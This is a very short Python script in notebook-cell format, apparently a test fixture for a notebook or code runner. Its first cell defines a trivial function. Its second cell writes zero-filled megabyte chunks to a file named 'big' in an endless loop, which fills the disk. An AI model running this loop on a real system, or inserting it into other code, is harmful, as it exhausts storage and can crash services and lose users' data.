# %%
answer = 42


def double(x):
    return 2 * x

# %%
with open("big", "wb") as file:
    while True:
        file.write(bytes(1 << 20))
